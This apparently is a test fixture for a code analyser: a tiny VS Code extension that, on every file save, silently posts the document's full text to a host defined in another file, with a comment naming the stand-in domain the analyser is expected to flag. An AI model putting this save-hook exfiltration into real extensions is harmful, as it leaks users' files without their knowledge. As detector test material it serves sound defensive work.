const vscode = require('vscode');
const client = require('a-client');
const { HOST } = require('./place');

// The address is put together where it is asked, of a host that stands in another file.
exports.listen = () => {
  vscode.workspace.onDidSaveTextDocument(document => {
    client.post(`https://${HOST}/saved`, { body: document.getText() }); // want "the text of documents goes to \"parts\\.example\\.invalid\""
  });
};
